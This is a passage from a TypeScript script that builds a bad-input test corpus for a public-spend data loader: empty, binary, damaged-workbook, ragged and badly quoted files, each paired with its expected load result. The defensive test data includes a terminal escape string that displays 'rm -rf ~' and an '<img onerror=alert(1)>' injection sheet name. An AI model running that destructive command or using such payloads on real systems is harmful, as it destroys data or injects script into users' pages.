/**
 * Generates the bad-input corpus in test/fixtures/bad/ (issue 9): small files, each holding one kind of
 * malformed or hostile input, one folder per case with what it needs beside it (institution.json, a GeoJSON
 * boundary…), plus
 *   cases.json  what loading each case's target file must do, computed here from the clean values each case
 *               was made from (never by loader code): every row read with its fate (loaded, or quarantined and
 *               why) and its amount in pence when its amount cell holds an amount; or a refusal and words its
 *               message must hold
 *   README.md   the table of cases.
 * Big cases (a 10 MB field, 100k duplicate rows) and hostile file names are not committed: the tests build them
 * into a temporary folder from TEST_TIME_CASES, and the fault tests write their large load with largeSpendCsv.
 * Seeded (BAD_SEED): every run writes the same bytes. Run: npx tsx scripts/generate-bad-corpus.ts
 *
 * This file is long for the reason the quirk generator is: it is the table of cases, each a few lines.
 */
import Papa from "papaparse";
import writeXlsxFile from "write-excel-file/node";
import { createHash } from "node:crypto";
import { mkdir, rm, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { pick, seededRandom } from "./seeded-random.js";
import { pinZipTimes } from "./pin-zip-times.js";
import { zipOf } from "./zip-entries.js";

export const BAD_SEED = 20251125;
const root = join(dirname(fileURLToPath(import.meta.url)), "..");
const OUT = join(root, "test", "fixtures", "bad");
const COMMAND = "npx tsx scripts/generate-bad-corpus.ts";

// ---------------------------------------------------------------------------------------------------------
// What a case must do when its target file is loaded.

/** A quarantine reason: the column as headed in the file (null for whole-row reasons) and words it holds. */
export interface Reason { column: string | null; includes: string }

/** One row read from a spend file: where it is, its amount when its amount cell holds one, and its fate. */
export interface ExpectedRow {
  sheet: string | null;
  row: number;
  /** Pence the publisher wrote, when the amount cell holds an amount; null when it holds none. */
  pence: number | null;
  loaded: boolean;
  /** For loaded rows: the payment date (ISO), and where the case is about them, the supplier and expense type as stored. */
  date?: string;
  supplier?: string;
  expenseType?: string;
  /** For quarantined rows: reasons that must be among the row's quarantine entries. */
  reasons?: Reason[];
}

export interface ExpectedQuarantine { row: number; column: string | null; includes: string }

export type Expectation =
  | { outcome: "loaded"; rows: ExpectedRow[] }
  | { outcome: "loaded"; counts: { read: number; loaded: number; quarantined: number }; quarantine: ExpectedQuarantine[] }
  | { outcome: "refused"; messageIncludes: string[] }
  /** A damaged file: refused, or loaded whole and exactly as the undamaged file would be. */
  | { outcome: "loaded or refused"; rows: ExpectedRow[]; messageIncludes: string[] };

export type ResultKind = "spend" | "suppliers" | "postcodes" | "definitions" | "institution";

/** A case as the tests read it (cases.json), and its files when it is built at test time. */
export interface BadCase {
  id: string;
  category: string;
  what: string;
  /** The case's folder under test/fixtures/bad/, and the file in it to load. */
  folder: string;
  target: string;
  kind: ResultKind;
  expect: Expectation;
  /** Text that must not be anywhere in the warehouse afterwards (redacted names). */
  mustNotAppear?: string[];
  /** Text a refusal message must not hold (content of files it had no business reading). */
  messageMustNotInclude?: string[];
  /** A loader bug this case shows: the expectation is the right behaviour, the loader does not meet it yet. */
  knownBug?: string;
}

type Bytes = Uint8Array | string;
interface Built extends Omit<BadCase, "id" | "category" | "what" | "folder" | "knownBug"> { files: Record<string, Bytes> }
interface CaseSpec { id: string; category: string; what: string; knownBug?: string; make: (random: () => number) => Built | Promise<Built> }

// ---------------------------------------------------------------------------------------------------------
// Clean rows, and lines made from them that know their fate.

type Cell = string | number | boolean | Date | null | { [key: string]: unknown };
interface Fate { pence: number | null; loaded: boolean; date?: string; supplier?: string; expenseType?: string; reasons?: Reason[] }
/** A physical record: cells (quoted as needed) or text written as is; `fate` absent when it is not read (titles, heading, blank). */
interface Line { cells?: Cell[]; text?: string; fate?: Fate }
interface Sheet { name: string; lines: Line[] }

interface Clean { date: string; type: string; supplier: string; transaction: string; pence: number }

const HEADING = ["Date", "Expense Type", "Supplier", "Transaction Number", "Amount"];
const AT = { date: 0, type: 1, supplier: 2, transaction: 3, amount: 4 } as const;
type Field = keyof typeof AT;

const PLACES = ["Bow", "Hackney", "Luton", "Bedford", "Stratford", "Leyton", "Poplar", "Dalston", "Wapping", "Limehouse", "Ampthill", "Dunstable"];
const TRADES = ["Print", "Cleaning", "Catering", "Building Maintenance", "Medical Supplies", "Software", "Transport", "Laundry", "Security", "Consulting"];
const FORMS = ["Ltd", "Limited", "LLP", "plc", "CIC", "and Co"];
const EXPENSE_TYPES = ["Medical equipment", "Cleaning services", "IT software", "Building works", "Agency staff", "Catering"];

function cleanRows(random: () => number, count: number, month = "2024-04"): Clean[] {
  return Array.from({ length: count }, () => ({
    date: `${month}-${String(1 + Math.floor(random() * 28)).padStart(2, "0")}`,
    type: pick(random, EXPENSE_TYPES),
    supplier: `${pick(random, PLACES)} ${pick(random, TRADES)} ${pick(random, FORMS)}`,
    transaction: `T${String(Math.floor(random() * 1e6)).padStart(6, "0")}`,
    pence: 100 + Math.floor(random() * 4_999_900),
  }));
}

/** 1234.56 as published, from pence. */
export function decimal(pence: number): string {
  const sign = pence < 0 ? "-" : "";
  return `${sign}${Math.floor(Math.abs(pence) / 100)}.${String(Math.abs(pence) % 100).padStart(2, "0")}`;
}
/** 1,234.56 from 1234.56. */
const withThousands = (text: string): string => text.replace(/^(-?)(\d+)/, (_, sign: string, whole: string) => sign + whole.replace(/\B(?=(\d{3})+$)/g, ","));
export const dmy = (iso: string): string => `${iso.slice(8, 10)}/${iso.slice(5, 7)}/${iso.slice(0, 4)}`;

const cellsOf = (c: Clean): Cell[] => [dmy(c.date), c.type, c.supplier, c.transaction, decimal(c.pence)];
const withCells = (cells: Cell[], change: Partial<Record<Field, Cell>>): Cell[] => {
  const out = [...cells];
  for (const [field, value] of Object.entries(change)) out[AT[field as Field]] = value;
  return out;
};

const heading = (cells: Cell[] = HEADING): Line => ({ cells });
const blank = (width = 0): Line => ({ cells: Array<Cell>(width).fill("") });
const title = (text: string): Line => ({ cells: [text] });
/** A row that loads as written. */
const good = (c: Clean, change: Partial<Record<Field, Cell>> = {}, about: Partial<Fate> = {}): Line =>
  ({ cells: withCells(cellsOf(c), change), fate: { pence: c.pence, loaded: true, date: c.date, ...about } });
/** A row with a bad cell: quarantined with that column's reason. */
const quarantined = (c: Clean, change: Partial<Record<Field, Cell>>, reasons: Reason[], pence: number | null = c.pence): Line =>
  ({ cells: withCells(cellsOf(c), change), fate: { pence, loaded: false, reasons } });
const NOT_AN_AMOUNT: Reason = { column: "Amount", includes: "not an amount" };
const NOT_A_DATE: Reason = { column: "Date", includes: "not a date" };
const NO_SUPPLIER: Reason = { column: "Supplier", includes: "supplier name is empty" };
const NOT_SPEND: Reason = { column: null, includes: "not spend" };
const badAmount = (c: Clean, text: Cell): Line => quarantined(c, { amount: text }, [NOT_AN_AMOUNT], null);
const badDate = (c: Clean, text: Cell): Line => quarantined(c, { date: text }, [NOT_A_DATE]);
/** A line written as raw text, read as one row the loader must quarantine (its amount, if any, as given). */
const rawQuarantined = (text: string, pence: number | null, reasons: Reason[] = []): Line => ({ text, fate: { pence, loaded: false, reasons } });

// ---------------------------------------------------------------------------------------------------------
// Writing bytes: CSV in several encodings, XLSX workbooks, a plain ZIP.

type Encoding = "utf-8" | "utf-8-bom" | "windows-1252" | "utf-16le-bom" | "utf-16be-bom" | "utf-16le" | "utf-32le";
interface CsvOptions { delimiter?: string; newline?: string; encoding?: Encoding; finalNewline?: boolean }

function csvCell(cell: Cell): string {
  if (cell === null) return "";
  if (typeof cell === "object") throw new Error("only workbooks hold dates and cell objects");
  return String(cell);
}

function csvText(lines: readonly Line[], { delimiter = ",", newline = "\n", finalNewline = true }: CsvOptions = {}): string {
  const texts = lines.map((line) => line.text ?? (line.cells!.length === 0 ? "" : Papa.unparse([line.cells!.map(csvCell)], { delimiter, newline })));
  return texts.join(newline) + (finalNewline ? newline : "");
}

/**
 * Windows-1252, byte by byte, written out here (not from TextDecoder: Node 20's decoder reads 0x80–0x9F as
 * ISO-8859-1 control characters). Bytes the code page leaves undefined map to U+0081… as WHATWG says.
 */
const WINDOWS_1252 = [
  ...Array.from({ length: 128 }, (_, i) => String.fromCharCode(i)),
  ..."€\u0081‚ƒ„…†‡ˆ‰Š‹Œ\u008dŽ\u008f\u0090‘’“”•–—˜™š›œ\u009džŸ",
  ...Array.from({ length: 96 }, (_, i) => String.fromCharCode(0xa0 + i)),
].join("");

function encode(text: string, encoding: Encoding): Uint8Array {
  switch (encoding) {
    case "utf-8": return Buffer.from(text, "utf-8");
    case "utf-8-bom": return Buffer.from(`\uFEFF${text}`, "utf-8");
    case "windows-1252": return Uint8Array.from([...text].map((ch) => {
      const byte = WINDOWS_1252.indexOf(ch);
      if (byte < 0) throw new Error(`${JSON.stringify(ch)} is not in Windows-1252`);
      return byte;
    }));
    case "utf-16le": return Buffer.from(text, "utf16le");
    case "utf-16le-bom": return Buffer.from(`\uFEFF${text}`, "utf16le");
    case "utf-16be-bom": return Buffer.from(`\uFEFF${text}`, "utf16le").swap16();
    case "utf-32le": {
      const points = [...`\uFEFF${text}`].map((ch) => ch.codePointAt(0)!);
      const bytes = Buffer.alloc(points.length * 4);
      points.forEach((point, i) => bytes.writeUInt32LE(point, i * 4));
      return bytes;
    }
  }
}


async function xlsxBytes(sheets: readonly Sheet[]): Promise<Buffer> {
  const data = sheets.map((sheet) => ({
    sheet: sheet.name,
    dateFormat: "dd/mm/yyyy",
    data: sheet.lines.map((line) => (line.cells ?? []).map((cell) => (cell === "" ? null : cell))),
  }));
  return pinZipTimes(Buffer.from(await writeXlsxFile(data as never).toBuffer()));
}

/** A ZIP of plain text entries (stored, not compressed): a ZIP that is not a workbook. */
function storedZip(entries: Record<string, string>): Buffer {
  return zipOf(Object.fromEntries(Object.entries(entries).map(([name, text]) => [name, Buffer.from(text)])), false);
}

// ---------------------------------------------------------------------------------------------------------
// Expectations from lines.

function rowsOf(sheets: readonly { name: string | null; lines: readonly Line[] }[]): ExpectedRow[] {
  return sheets.flatMap(({ name, lines }) => lines.flatMap((line, index): ExpectedRow[] => {
    if (!line.fate) return [];
    const { pence, loaded, date, supplier, expenseType, reasons } = line.fate;
    return [{
      sheet: name, row: index + 1, pence, loaded,
      ...(loaded && date ? { date } : {}), ...(supplier !== undefined ? { supplier } : {}), ...(expenseType !== undefined ? { expenseType } : {}),
      ...(!loaded ? { reasons: reasons ?? [] } : {}),
    }];
  }));
}

function countsOf(lines: readonly Line[]): Extract<Expectation, { counts: unknown }> {
  const rows = rowsOf([{ name: null, lines }]);
  return {
    outcome: "loaded",
    counts: { read: rows.length, loaded: rows.filter((r) => r.loaded).length, quarantined: rows.filter((r) => !r.loaded).length },
    quarantine: rows.flatMap((r) => (r.reasons ?? []).map((reason) => ({ row: r.row, ...reason }))),
  };
}

// ---------------------------------------------------------------------------------------------------------
// Case builders.

const institutionJson = (id: string, extra: Record<string, unknown> = {}): string =>
  `${JSON.stringify({ id: `bad:${id}`, name: `Bad-input corpus: ${id}`, kind: "nhs-trust", ...extra })}\n`;

interface SpendOptions extends CsvOptions {
  target?: string;
  mustNotAppear?: string[];
  /** Also acceptable: a refusal whose message holds these words. */
  orRefused?: string[];
}

function spendCsv(id: string, lines: Line[], options: SpendOptions = {}): Built {
  const target = options.target ?? `${id}.csv`;
  return {
    files: { "institution.json": institutionJson(id), [target]: encode(csvText(lines, options), options.encoding ?? "utf-8") },
    target, kind: "spend",
    expect: options.orRefused ? { outcome: "loaded or refused", rows: rowsOf([{ name: null, lines }]), messageIncludes: options.orRefused } : { outcome: "loaded", rows: rowsOf([{ name: null, lines }]) },
    ...(options.mustNotAppear ? { mustNotAppear: options.mustNotAppear } : {}),
  };
}

async function spendXlsx(id: string, sheets: Sheet[], target = `${id}.xlsx`): Promise<Built> {
  return {
    files: { "institution.json": institutionJson(id), [target]: await xlsxBytes(sheets) },
    target, kind: "spend", expect: { outcome: "loaded", rows: rowsOf(sheets) },
  };
}

function refusedSpend(id: string, bytes: Bytes, messageIncludes: string[], target = `${id}.csv`, files: Record<string, Bytes> = {}): Built {
  return { files: { "institution.json": institutionJson(id), ...files, [target]: bytes }, target, kind: "spend", expect: { outcome: "refused", messageIncludes } };
}

const plain = (rows: Clean[]): Line[] => [heading(), ...rows.map((c) => good(c))];

/** A case of spend lines: `build` gets the case's seeded clean rows. */
const spend = (id: string, category: string, what: string, build: (rows: Clean[], random: () => number) => Line[], options: SpendOptions & { count?: number; knownBug?: string } = {}): CaseSpec => ({
  id, category, what, ...(options.knownBug ? { knownBug: options.knownBug } : {}),
  make: (random) => spendCsv(id, build(cleanRows(random, options.count ?? 6), random), options),
});

const name = (c: Clean, supplier: string): Line => good(c, { supplier }, { supplier });
const hostileNames = (id: string, category: string, what: string, names: string[]): CaseSpec =>
  spend(id, category, what, (rows) => [heading(), ...rows.map((c, i) => (i < names.length ? name(c, names[i]!) : good(c)))], { count: names.length + 2 });


// ---------------------------------------------------------------------------------------------------------
// The cases, by category.

const EMPTY: CaseSpec[] = [
  { id: "empty-zero-bytes", category: "empty", what: "an empty file (0 bytes)", make: () => refusedSpend("empty-zero-bytes", "", ["empty"]) },
  { id: "empty-whitespace-only", category: "empty", what: "spaces and line breaks only", make: () => refusedSpend("empty-whitespace-only", "   \n \n\t\n", ["heading"]) },
  { id: "empty-newlines-only", category: "empty", what: "line breaks only (CRLF)", make: () => refusedSpend("empty-newlines-only", "\r\n\r\n\r\n", ["heading"]) },
  { id: "empty-bom-only", category: "empty", what: "a UTF-8 byte-order mark and nothing else", make: () => refusedSpend("empty-bom-only", "\uFEFF", ["heading"]) },
  { id: "empty-commas-only", category: "empty", what: "lines of commas only (an empty sheet saved as CSV)", make: () => refusedSpend("empty-commas-only", ",,,,\n,,,,\n,,,,\n", ["heading"]) },
  spend("header-only-no-newline", "empty", "the heading row with no line break and no data", () => [heading()], { finalNewline: false }),
  spend("header-only-crlf", "empty", "the heading row (CRLF) and no data", () => [heading()], { newline: "\r\n" }),
  spend("header-then-blank-lines", "empty", "the heading row then blank lines", () => [heading(), blank(), blank(), blank()]),
  spend("header-then-comma-lines", "empty", "the heading row then lines of commas only", () => [heading(), blank(5), blank(5)]),
  spend("header-repeated-five-times", "empty", "the heading row five times and no data: four repeated headings quarantined", () =>
    [heading(), ...Array.from({ length: 4 }, () => ({ cells: HEADING, fate: { pence: null, loaded: false, reasons: [{ column: null, includes: "repeated heading row" }] } }))]),
  { id: "title-lines-no-heading", category: "empty", what: "title lines and notes but no heading row", make: () =>
    refusedSpend("title-lines-no-heading", csvText([title("Expenditure over £25,000"), title("April 2024"), title("No payments this month")]), ["heading", "amount"]) },
  spend("header-and-one-row-no-newline", "empty", "the heading row and one row, no final line break", (rows) => plain(rows.slice(0, 1)), { finalNewline: false }),
];

/** Seeded random bytes; with `nul`, a NUL byte every 97 bytes at least (as binary files hold), else none at all. */
function randomBytes(random: () => number, length: number, { nul = true } = {}): Uint8Array {
  const bytes = Uint8Array.from({ length }, () => (nul ? Math.floor(random() * 256) : 1 + Math.floor(random() * 255)));
  if (nul) for (let i = 5; i < length; i += 97) bytes[i] = 0;
  return bytes;
}

const binary = (id: string, what: string, bytes: (random: () => number) => Uint8Array, messageIncludes: string[], target = `${id}.csv`): CaseSpec =>
  ({ id, category: "binary", what, make: (random) => refusedSpend(id, bytes(random), messageIncludes, target) });

const BINARY: CaseSpec[] = [
  binary("binary-random-16-bytes", "16 seeded random bytes", (r) => randomBytes(r, 16), ["NUL"]),
  binary("binary-random-1k", "1 KB of seeded random bytes", (r) => randomBytes(r, 1024), ["NUL"]),
  binary("binary-png-named-csv", "a PNG image named .csv", (r) => Buffer.concat([Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"), randomBytes(r, 200)]), ["NUL"]),
  binary("binary-gzip-named-csv", "a gzip stream named .csv (a compressed spend file not decompressed)", (r) => Buffer.concat([Buffer.from("1f8b0800000000000003", "hex"), randomBytes(r, 300)]), ["NUL"]),
  binary("binary-pdf-named-csv", "a PDF named .csv", (r) => Buffer.concat([Buffer.from("%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "latin1"), randomBytes(r, 300)]), ["NUL"]),
  binary("binary-elf-named-csv", "an executable named .csv", (r) => Buffer.concat([Buffer.from("7f454c46020101000000000000000000", "hex"), randomBytes(r, 300)]), ["NUL"]),
  binary("binary-zip-not-workbook-named-csv", "a ZIP of text files (not a workbook) named .csv", () => storedZip({ "notes.txt": "not a workbook", "data/spend.txt": "Date,Supplier,Amount" }), ["XLSX"]),
  binary("binary-zip-not-workbook", "a ZIP of text files (not a workbook) named .xlsx", () => storedZip({ "notes.txt": "not a workbook" }), ["XLSX"], "binary-zip-not-workbook.xlsx"),
  binary("binary-csv-named-xlsx", "CSV text named .xlsx", (r) => Buffer.from(csvText(plain(cleanRows(r, 3)))), ["not a workbook"], "binary-csv-named-xlsx.xlsx"),
  binary("binary-no-nul-random", "2 KB of random bytes with no NUL (read as Windows-1252 text): refused, its message free of control characters",
    (r) => randomBytes(r, 2048, { nul: false }), ["heading"]),
  binary("binary-terminal-escapes", "text lines holding terminal escape sequences (clear screen, set title) and no heading: refused, the escapes not echoed",
    () => Buffer.from("\u001b]0;pwned\u0007\u001b[2J\u001b[1;31mRUN rm -rf ~\u001b[0m\nEXPENDITURE\u001b[8m hidden\u001b[0m\n"), ["heading"]),
  binary("binary-printable-noise", "4 KB of printable ASCII noise with no heading", (r) => Buffer.from(Array.from({ length: 4096 }, () => 32 + Math.floor(r() * 95))), ["heading"]),
  binary("binary-one-byte", "a single byte (0xFF)", () => Uint8Array.from([0xff]), ["heading"]),
];

/** A small workbook to damage. */
async function sampleWorkbook(random: () => number): Promise<{ bytes: Buffer; sheets: Sheet[] }> {
  const sheets = [{ name: "Spend", lines: plain(cleanRows(random, 8)) }];
  return { bytes: await xlsxBytes(sheets), sheets };
}

const damaged = (id: string, what: string, damage: (bytes: Buffer, random: () => number) => Buffer): CaseSpec => ({
  id, category: "xlsx-damaged", what,
  make: async (random) => {
    const { bytes, sheets } = await sampleWorkbook(random);
    const target = `${id}.xlsx`;
    return {
      files: { "institution.json": institutionJson(id), [target]: damage(bytes, random) },
      target, kind: "spend", expect: { outcome: "loaded or refused", rows: rowsOf(sheets), messageIncludes: ["XLSX"] },
    };
  },
});

const corrupt = (bytes: Buffer, at: number): Buffer => {
  const copy = Buffer.from(bytes);
  const start = Math.floor(copy.length * at);
  for (let i = start; i < Math.min(copy.length, start + 16); i++) copy[i] = copy[i]! ^ 0x5a;
  return copy;
};

const XLSX_DAMAGED: CaseSpec[] = [
  ...[0.1, 0.25, 0.5, 0.75, 0.9, 0.99].map((fraction) =>
    damaged(`xlsx-truncated-${Math.round(fraction * 100)}pc`, `a workbook cut off after ${Math.round(fraction * 100)}% of its bytes`, (bytes) => bytes.subarray(0, Math.floor(bytes.length * fraction)))),
  ...[1, 10, 22, 23].map((cut) => damaged(`xlsx-truncated-last-${cut}-bytes`, `a workbook missing its last ${cut} byte(s) (22: exactly the ZIP's end record)`, (bytes) => bytes.subarray(0, bytes.length - cut))),
  ...[0.2, 0.4, 0.6, 0.8].map((at) => damaged(`xlsx-corrupt-at-${Math.round(at * 100)}pc`, `a workbook with 16 bytes scrambled ${Math.round(at * 100)}% of the way in`, (bytes) => corrupt(bytes, at))),
  damaged("xlsx-zip-header-only", "the first 30 bytes of a workbook (a ZIP entry header and nothing else)", (bytes) => bytes.subarray(0, 30)),
];

interface XlsxOptions { count?: number; target?: string; category?: string; refused?: string[] }
const xlsxCase = (id: string, what: string, build: (rows: Clean[], random: () => number) => Sheet[], { count = 6, target, category = "xlsx-shapes", refused }: XlsxOptions = {}): CaseSpec => ({
  id, category, what,
  make: async (random) => {
    const built = await spendXlsx(id, build(cleanRows(random, count), random), target);
    return refused ? { ...built, expect: { outcome: "refused", messageIncludes: refused } } : built;
  },
});

const span = (value: Cell, spans: { columnSpan?: number; rowSpan?: number }): Cell => ({ value, ...spans });

const XLSX_SHAPES: CaseSpec[] = [
  xlsxCase("xlsx-merged-title", "a title merged across the columns above the heading row", (rows) =>
    [{ name: "Spend", lines: [{ cells: [span("Expenditure over £25,000: April 2024", { columnSpan: 5 }), null, null, null, null] }, heading(), ...rows.map((c) => good(c))] }]),
  xlsxCase("xlsx-merged-supplier-down-rows", "one supplier cell merged down three rows: the two rows below it have no supplier (quarantined)", (rows) => {
    const [a, b, c, ...rest] = rows as [Clean, Clean, Clean, ...Clean[]];
    return [{ name: "Spend", lines: [heading(),
      { cells: withCells(cellsOf(a), { supplier: span(a.supplier, { rowSpan: 3 }) }), fate: { pence: a.pence, loaded: true, date: a.date } },
      quarantined(b, { supplier: null }, [NO_SUPPLIER]), quarantined(c, { supplier: null }, [NO_SUPPLIER]), ...rest.map((r) => good(r))] }];
  }),
  xlsxCase("xlsx-merged-amount-down-rows", "an amount cell merged down two rows: the second row has no amount (quarantined)", (rows) => {
    const [a, b, ...rest] = rows as [Clean, Clean, ...Clean[]];
    return [{ name: "Spend", lines: [heading(), { cells: withCells(cellsOf(a), { amount: span(decimal(a.pence), { rowSpan: 2 }) }), fate: { pence: a.pence, loaded: true, date: a.date } },
      badAmount(b, null), ...rest.map((r) => good(r))] }];
  }),
  xlsxCase("xlsx-merged-heading", "the Amount heading merged across two columns (the amount in the first)", (rows) =>
    [{ name: "Spend", lines: [{ cells: [...HEADING.slice(0, 4), span("Amount", { columnSpan: 2 }), null] }, ...rows.map((c) => good(c, {}, {}))] }]),
  xlsxCase("xlsx-three-sheets-notes-first", "a Notes sheet, then two spend sheets each with a bad row (quarantine names the sheet)", (rows) => {
    const [a, b, ...rest] = rows as [Clean, Clean, ...Clean[]];
    return [
      { name: "Notes", lines: [title("Payments over £25,000"), title("Source: finance system")] },
      { name: "April", lines: [heading(), good(a), badAmount(b, "TBC"), ...rest.slice(0, 2).map((r) => good(r))] },
      { name: "May", lines: [heading(), badDate(rest[2]!, "31/02/2024"), ...rest.slice(3).map((r) => good(r))] },
    ];
  }, { count: 8 }),
  xlsxCase("xlsx-spend-then-empty-sheet", "a spend sheet and an empty sheet", (rows) => [{ name: "Spend", lines: plain(rows) }, { name: "Empty", lines: [] }]),
  xlsxCase("xlsx-heading-only-sheet-first", "a sheet with the heading only, then a sheet of rows", (rows) => [{ name: "Template", lines: [heading()] }, { name: "Spend", lines: plain(rows) }]),
  xlsxCase("xlsx-same-heading-two-layouts", "two spend sheets with their columns in different orders", (rows) => {
    const order = [4, 2, 0, 1, 3];
    const reorder = (line: Line): Line => ({ ...line, cells: order.map((i) => line.cells![i] ?? null) });
    return [{ name: "A", lines: plain(rows.slice(0, 3)) }, { name: "B", lines: plain(rows.slice(3)).map(reorder) }];
  }),
  xlsxCase("xlsx-sheet-name-markup", "spend on a sheet named <img src=x onerror=alert(1)>", (rows) => [{ name: "<img src=x onerror=alert(1)>", lines: plain(rows) }]),
  xlsxCase("xlsx-formula-amount-no-value", "an amount that is a formula with no computed value saved (quarantined: no amount)", (rows) => {
    const [a, ...rest] = rows as [Clean, ...Clean[]];
    return [{ name: "Spend", lines: [heading(), badAmount(a, { type: "Formula", value: "=SUM(B2:B3)" }), ...rest.map((r) => good(r))] }];
  }),
  xlsxCase("xlsx-boolean-and-error-text-amounts", "TRUE and #N/A in amount cells (quarantined)", (rows) => {
    const [a, b, ...rest] = rows as [Clean, Clean, ...Clean[]];
    return [{ name: "Spend", lines: [heading(), badAmount(a, true), badAmount(b, "#N/A"), ...rest.map((r) => good(r))] }];
  }),
  xlsxCase("xlsx-number-supplier", "a supplier name that is a number cell (90210): quarantined, a payee of digits only is a sign of shifted columns", (rows) => {
    const [a, ...rest] = rows as [Clean, ...Clean[]];
    return [{ name: "Spend", lines: [heading(), quarantined(a, { supplier: 90210 }, [{ column: "Supplier", includes: "only digits" }]), ...rest.map((r) => good(r))] }];
  }),
  xlsxCase("xlsx-date-cell-in-amount", "a date cell in the amount column (quarantined)", (rows) => {
    const [a, ...rest] = rows as [Clean, ...Clean[]];
    return [{ name: "Spend", lines: [heading(), badAmount(a, new Date(Date.UTC(2024, 3, 1))), ...rest.map((r) => good(r))] }];
  }),
  xlsxCase("xlsx-numeric-amounts-float-noise", "numeric amounts with float noise (0.1 + 0.2, 1234.5678): rounded to pence", (rows) => {
    const [a, b, ...rest] = rows as [Clean, Clean, ...Clean[]];
    return [{ name: "Spend", lines: [heading(), good({ ...a, pence: 30 }, { amount: 0.1 + 0.2 }), good({ ...b, pence: 123457 }, { amount: 1234.5678 }), ...rest.map((r) => good(r, { amount: r.pence / 100 }))] }];
  }),
  xlsxCase("xlsx-title-rows-30", "a workbook whose heading row is row 31, below the rows searched (refused)", (rows) =>
    [{ name: "Spend", lines: [...Array.from({ length: 30 }, (_, i) => title(`Note ${i + 1}`)), heading(), ...rows.map((c) => good(c))] }], { refused: ["heading"] }),
  xlsxCase("xlsx-named-csv", "a real workbook named .csv", (rows) => [{ name: "Spend", lines: plain(rows) }], { target: "xlsx-named-csv.csv" }),
  xlsxCase("xlsx-blank-rows-between", "empty rows between the rows of a sheet", (rows) => [{ name: "Spend", lines: [heading(), ...rows.flatMap((c, i) => (i % 2 ? [good(c), blank()] : [good(c)]))] }]),
  xlsxCase("xlsx-no-spend-sheet", "three sheets, none with a spend heading (refused)", () =>
    [{ name: "Notes", lines: [title("Notes")] }, { name: "Summary", lines: [{ cells: ["Month", "Total"] }, { cells: ["April", 1000] }] }, { name: "Blank", lines: [] }], { refused: ["heading"] }),
];

const RAGGED: CaseSpec[] = [
  spend("ragged-short-row-no-amount", "ragged", "a row one cell short: no amount (quarantined)", ([a, ...rest]) =>
    [heading(), { cells: cellsOf(a!).slice(0, 4), fate: { pence: null, loaded: false, reasons: [NOT_AN_AMOUNT] } }, ...rest.map((c) => good(c))]),
  spend("ragged-short-row-two-cells", "ragged", "a row of two cells (date, expense type): no supplier, no amount", ([a, ...rest]) =>
    [heading(), { cells: cellsOf(a!).slice(0, 2), fate: { pence: null, loaded: false, reasons: [NO_SUPPLIER, NOT_AN_AMOUNT] } }, ...rest.map((c) => good(c))]),
  spend("ragged-one-cell-row", "ragged", "a row of one cell (the date): a note line, not spend", ([a, ...rest]) =>
    [heading(), { cells: [dmy(a!.date)], fate: { pence: null, loaded: false, reasons: [NOT_SPEND] } }, ...rest.map((c) => good(c))]),
  spend("ragged-long-rows", "ragged", "two extra cells on every row", (rows) => [heading(), ...rows.map((c) => ({ ...good(c), cells: [...cellsOf(c), "extra", "99.99"] }))]),
  spend("ragged-heading-shorter", "ragged", "rows longer than the heading row", (rows) => [heading(), ...rows.map((c) => ({ ...good(c), cells: [...cellsOf(c), "note", "", "x"] }))]),
  spend("ragged-heading-longer", "ragged", "a heading row longer than the rows", (rows) => [heading([...HEADING, "Notes", "Cost Code"]), ...rows.map((c) => good(c))]),
  spend("ragged-alternating", "ragged", "rows alternately one cell long and one cell short (short ones lose the amount)", (rows) =>
    [heading(), ...rows.map((c, i) => (i % 2 ? { cells: cellsOf(c).slice(0, 4), fate: { pence: null, loaded: false, reasons: [NOT_AN_AMOUNT] } } : { ...good(c), cells: [...cellsOf(c), "x"] }))]),
  spend("ragged-shifted-row", "ragged", "a row shifted one cell right (a leading empty cell): quarantined, its amount kept in the count", ([a, ...rest]) =>
    [heading(), { cells: ["", ...cellsOf(a!)], fate: { pence: a!.pence, loaded: false, reasons: [NOT_A_DATE, NOT_AN_AMOUNT] } }, ...rest.map((c) => good(c))]),
  spend("ragged-trailing-delimiters", "ragged", "some rows ending in extra delimiters", (rows) => [heading(), ...rows.map((c, i) => ({ ...good(c), cells: [...cellsOf(c), ...Array<Cell>(i).fill("")] }))]),
  spend("ragged-empty-middle-cells", "ragged", "rows with the optional cells empty", (rows) => [heading(), ...rows.map((c) => good(c, { type: "", transaction: "" }))]),
];


const QUOTES: CaseSpec[] = [
  { id: "quote-unterminated-mid-file", category: "quotes", what: "a quote opened in row 3 and never closed (refused, naming the row)", make: (random) =>
    refusedSpend("quote-unterminated-mid-file", csvText(plain(cleanRows(random, 5))).replace(/\n(\d\d\/\d\d\/\d{4}),([^,\n]*),/, (_, d, t) => `\n${d},${t},"`), ["never closed"]) },
  { id: "quote-unterminated-last-row", category: "quotes", what: "a quote opened in the last row and never closed", make: (random) => {
    const text = csvText(plain(cleanRows(random, 5)));
    return refusedSpend("quote-unterminated-last-row", `${text}01/04/2024,Catering,"Unclosed Supplier Ltd,T000001,100.00\n`, ["never closed"]);
  } },
  { id: "quote-unterminated-heading", category: "quotes", what: "a quote opened in the heading row and never closed", make: (random) =>
    refusedSpend("quote-unterminated-heading", `Date,"Expense Type,Supplier,Transaction Number,Amount\n${csvText(plain(cleanRows(random, 3))).split("\n").slice(1).join("\n")}`, ["quote"]) },
  { id: "quote-lone-quote-cell", category: "quotes", what: "a row ending in a lone quote character", make: (random) => {
    const text = csvText(plain(cleanRows(random, 4)));
    return refusedSpend("quote-lone-quote-cell", `${text}02/04/2024,Catering,Lone Quote Ltd,T000002,"\n`, ["never closed"]);
  } },
  { id: "quote-only-file", category: "quotes", what: "a file of three quote characters", make: () => refusedSpend("quote-only-file", "\"\"\"", ["quote"]) },
  { id: "quote-text-after-closing-quote", category: "quotes", what: "text after a closing quote (\"Acme\" Best Ltd) in row 2: refused, or every row accounted for",
    make: (random) => {
      const rows = cleanRows(random, 5);
      const text = csvText(plain(rows)).replace(rows[0]!.supplier, `"${rows[0]!.supplier}" Best`);
      return refusedSpend("quote-text-after-closing-quote", text, ["quote"]);
    } },
  { id: "quote-text-after-closing-quote-mid", category: "quotes", what: "text right after a closing quote (\"Acme\"x) mid-file: the next line must not vanish",
    make: (random) => {
      const rows = cleanRows(random, 6);
